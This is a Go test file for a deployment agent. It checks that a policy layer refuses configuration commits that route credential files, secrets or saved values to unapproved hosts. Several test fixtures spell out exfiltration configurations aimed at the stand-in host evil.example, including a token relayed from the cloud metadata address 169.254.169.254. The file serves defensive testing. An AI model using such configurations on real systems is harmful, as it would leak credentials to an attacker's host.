package desired_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"go.yaml.in/yaml/v3"

	"coin.internal/coin-agent/agent/desired"
	"coin.internal/coin-agent/internal/fault"
	"coin.internal/coin-agent/manifests"
	"coin.internal/coin-agent/policy"
)

// bound is a repository of node3 whose config.yml ends with lines, by default those of the
// last good revision.
func bound(lines string) fstest.MapFS {
	files := map[string]string{
		"environments/sandbox/config.yml":                     "environment: {name: sandbox, type: non-production}\nnodes: [{name: node3, context: c, stack: s, public_ip: 10.0.0.3}]\n" + lines,
		"environments/sandbox/nodes/node3/docker-compose.yml": "services: {}\n",
	}
	fsys := fstest.MapFS{}
	for name, content := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(content)}
	}
	return fsys
}

const (
	goodDatabase = "base: {registry: harbor.example/coin}\ndatabase: {host: db.example, name: coin, user: coin}\n"
	// goodLines are the last good revision: it has sent app.token to the node, and no other file.
	goodLines = goodDatabase + "deployment:\n  checks:\n    - {name: good, http: {url: 'https://{{public_ip}}/', token_file: app.token}}\n"
)

func rules(t *testing.T, text string) *policy.Policy {
	t.Helper()
	if text == "" {
		return nil
	}
	var document yaml.Node
	if err := yaml.Unmarshal([]byte(text), &document); err != nil {
		t.Fatal(err)
	}
	read, err := policy.Read("agent.yml", document.Content[0])
	if err != nil {
		t.Fatal(err)
	}
	return read
}

func http(more string) string {
	return "deployment:\n  checks:\n    - {name: up, http: {" + more + "}}\n"
}

func sql(more string) string {
	return "deployment:\n  checks:\n    - {name: up, sql: {query: q, " + more + "}}\n"
}

// TestBounds gives a commit after a good revision, the node's policy, and the refusal; ""
// where the commit is allowed.
func TestBounds(t *testing.T) {
	for name, test := range map[string]struct{ commit, policy, want, hint string }{
		"to the author's host": {
			goodDatabase + http("url: 'https://evil.example/', token_file: harbor.token"), "",
			"check up: the file harbor.token of check_dir must not go to evil.example: where the node's policy says nothing",
			"policy: {checks: {credentials: {harbor.token: [evil.example]}}}",
		},
		"to the author's database": {
			goodDatabase + sql("host: evil.example, password_file: harbor.token"), "", "check up: the file harbor.token of check_dir must not go to evil.example", "harbor.token: [evil.example]",
		},
		"to the database":    {goodDatabase + sql("password_file: db.password"), "", "", ""},
		"to the registry":    {goodDatabase + http("url: 'https://harbor.example/', token_file: harbor.token"), "", "", ""},
		"to a node":          {goodDatabase + http("url: 'https://10.0.0.3:5443/', token_file: other.token"), "", "", ""},
		"no longer the same": {goodDatabase + sql("password_file: app.token"), "", "the last good revision sends it only to 10.0.0.3", "app.token: [db.example]"},
		"a new database.host": {
			strings.Replace(goodDatabase, "db.example", "evil.example", 1) + sql("password_file: db.password"), "",
			"the file db.password of check_dir must not go to evil.example: this commit names it as database.host, the last good revision does not", "db.password: [evil.example]",
		},
		"a new registry": {
			strings.Replace(goodDatabase, "harbor.example", "evil.example", 1) + http("url: 'https://evil.example/', token_file: harbor.token"), "", "this commit names it as base.registry", "",
		},
		"a new Harbor": {
			goodDatabase + "deployment: {gates: {vulnerabilities: {registry: 'https://evil.example', user_file: harbor.user, token_file: harbor.token}}}\n", "",
			"gates.vulnerabilities: the file harbor.token of check_dir must not go to evil.example: this commit names it as deployment.gates.vulnerabilities.registry", "",
		},
		"a new node": {
			"nodes: [{name: node3, context: c, stack: s, public_ip: 10.66.6.6}]\n" + goodDatabase + http("url: 'https://10.66.6.6/', token_file: harbor.token"), "", "this commit names it as nodes[0].public_ip", "",
		},
		"the new database.host by the policy": {
			strings.Replace(goodDatabase, "db.example", "db2.example", 1) + sql("password_file: db.password"), "checks: {credentials: {db.password: [db.example, db2.example]}}", "", "",
		},
		"migrations of a new database": {
			strings.Replace(goodDatabase, "db.example", "evil.example", 1) + "deployment: {migration_check: {enabled: true, password_file: db.password}}\n", "", "migration_check: the file db.password", "",
		},
		"no longer named by the commit": {
			"base: {registry: harbor.example/coin}\n" + sql("host: db.example, name: coin, user: coin, password_file: db.password"), "", "must not go to db.example: where", "",
		},

		"unencrypted":                  {goodDatabase + http("url: 'http://10.0.0.3/', token_file: app.token"), "", "would go to 10.0.0.3 unencrypted", "https://"},
		"unencrypted database":         {goodDatabase + sql("sslmode: disable, password_file: db.password"), "", "would go to db.example unencrypted", "sslmode: verify-full"},
		"unencrypted, with the policy": {goodDatabase + http("url: 'http://10.0.0.3/', token_file: app.token"), "checks: {credentials: {app.token: [10.0.0.3]}}", "unencrypted", ""},
		"this machine":                 {goodDatabase + http("url: 'http://127.0.0.1/', token_file: app.token"), "checks: {credentials: {app.token: [127.0.0.1]}}", "", ""},
		"a file to a port here":        {goodDatabase + http("url: 'http://127.0.0.1/', token_file: app.token"), "", "must not go to 127.0.0.1", "app.token: [127.0.0.1]"},

		"a secret to a port here":       {goodDatabase + http("url: 'http://localhost/', token_secret: s"), "", "", ""},
		"a secret to the author's host": {goodDatabase + http("url: 'https://evil.example/', headers: {X: '{{secret.s}}'}"), "", "the secret s must not go to evil.example", "secret.s: [evil.example]"},
		"a secret by the policy":        {goodDatabase + http("url: 'https://app.example/', token_secret: s"), "checks: {credentials: {secret.s: [app.example]}}", "", ""},
		"a secret against the policy":   {goodDatabase + http("url: 'http://127.0.0.1/', token_secret: s"), "checks: {credentials: {secret.s: [app.example]}}", "policy.checks.credentials of the node does not allow the secret s to go to 127.0.0.1:80", "127.0.0.1 to the list policy.checks.credentials.secret.s"},
		"a file with a secret's name":   {goodDatabase + http("url: 'https://app.example/', token_file: secret.s"), "checks: {credentials: {secret.s: [app.example]}}", "cannot be bound to a host", "rename"},
		"a file that is not listed":     {goodDatabase + sql("password_file: db.password"), "checks: {credentials: {harbor.token: [db.example]}}", "policy.checks.credentials of the node does not allow the file db.password", "db.password: [db.example]"},
		"a secret that is not listed":   {goodDatabase + http("url: 'http://localhost/', token_secret: s"), "checks: {credentials: {harbor.token: [db.example]}}", "", ""},
		"a prefix of addresses":         {goodDatabase + http("url: 'https://10.66.6.6/', token_file: t"), "checks: {hosts: [10.66.0.0/16], credentials: {t: [10.66.6.0/24]}}", "", ""},
		"outside the prefix":            {goodDatabase + http("url: 'https://10.66.7.6/', token_file: t"), "checks: {hosts: [10.66.0.0/16], credentials: {t: [10.66.6.0/24]}}", "does not allow the file t of check_dir to go to 10.66.7.6:443", ""},

		"a saved value to another host": {
			goodDatabase + "deployment:\n  checks:\n    - {name: in, http: {url: 'http://169.254.169.254/role', json_path: a, save_as: t}}\n    - {name: up, http: {url: 'https://evil.example/{{t}}'}}\n", "",
			"check up: the saved value {{t}} must not go to evil.example", "saved.t: [evil.example]",
		},
		"a saved value in a host": {
			goodDatabase + "deployment:\n  checks:\n    - {name: in, http: {url: 'https://10.0.0.3/', json_path: a, save_as: t}}\n    - {name: up, http: {url: 'https://{{t}}.evil.example/'}}\n", "",
			"check up: it is not known where it connects to: a saved value decides its host", "node.env",
		},
		"a saved value back": {
			goodDatabase + "deployment:\n  checks:\n    - {name: in, http: {url: 'http://app.example/', json_path: a, save_as: t}}\n    - {name: up, http: {url: 'http://app.example/{{t}}'}}\n", "", "", "",
		},

		"hosts":         {goodDatabase + http("url: 'https://evil.example/'"), "checks: {hosts: [app.example]}", "policy.checks.hosts of the node does not allow a connection to evil.example:443", "evil.example to the list policy.checks.hosts"},
		"allowed hosts": {goodDatabase + http("url: 'https://app.example/'"), "checks: {hosts: [app.example:443]}", "", ""},
		"strict":        {goodDatabase + sql("password_file: db.password"), "strict", "policy.checks.hosts of the node does not allow a connection to db.example:5432", "policy: {checks: {hosts: [db.example]}}"},
		"database gate": {goodDatabase + "deployment: {gates: {database: true}}\n", "checks: {hosts: []}", "gates.database: policy.checks.hosts", ""},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "any"), []byte("content"), 0o600); err != nil {
				t.Fatal(err)
			}
			commit := bound(test.commit)
			if strings.HasPrefix(test.commit, "nodes:") {
				config := commit["environments/sandbox/config.yml"]
				config.Data = []byte("environment: {name: sandbox, type: non-production}\n" + test.commit)
			}
			state, err := desired.Load(t.Context(), commit, desired.Options{Environment: "sandbox", Node: "node3", CheckDir: dir, Bounds: desired.Bounds{
				Policy: rules(t, test.policy), Good: func() (*manifests.Node, error) { return manifests.Load(bound(goodLines), "sandbox", "node3") },
			}})
			if err != nil {
				t.Fatal(err)
			}
			refused := state.Bounded()
			all := fault.All(refused)
			if test.want == "" && refused != nil || test.want != "" && (refused == nil || !strings.Contains(all[len(all)-1].Error(), test.want) ||
				!strings.Contains(fault.Hint(all[len(all)-1]), test.hint) || !strings.HasPrefix(refused.Error(), "environments/sandbox/config.yml:")) {
				t.Errorf("got %v (%s), want %q (%s)", refused, fault.Hint(refused), test.want, test.hint)
			}
			if _, err := state.CheckFile("any"); (err == nil) != (test.want == "") {
				t.Errorf("reading a file of check_dir: %v", err)
			}
		})
	}
}

// TestBoundsBefore judges without a last good revision, and with one that cannot be read.
func TestBoundsBefore(t *testing.T) {
	commit := bound(goodDatabase + sql("password_file: db.password"))
	for name, test := range map[string]struct {
		good func() (*manifests.Node, error)
		want string
	}{
		"the first revision": {nil, ""},
		"unreadable":         {func() (*manifests.Node, error) { return nil, errors.New("no files") }, "of the last good revision, whose files cannot be read: no files"},
	} {
		state, err := desired.Load(t.Context(), commit, desired.Options{Environment: "sandbox", Node: "node3", Bounds: desired.Bounds{Good: test.good}})
		if err != nil {
			t.Fatal(err)
		}
		if err := state.Bounded(); test.want == "" && err != nil || test.want != "" && (err == nil || !strings.Contains(err.Error(), test.want)) {
			t.Errorf("%s: got %v, want %q", name, err, test.want)
		}
	}
	state, err := desired.Load(t.Context(), bound(goodDatabase+http("url: 'https://evil.example', token_file: t")), desired.Options{Environment: "sandbox", Node: "node3"})
	if err != nil {
		t.Fatal(err)
	}
	if state.Bounded() == nil {
		t.Error("the first revision may send a file anywhere")
	}
}
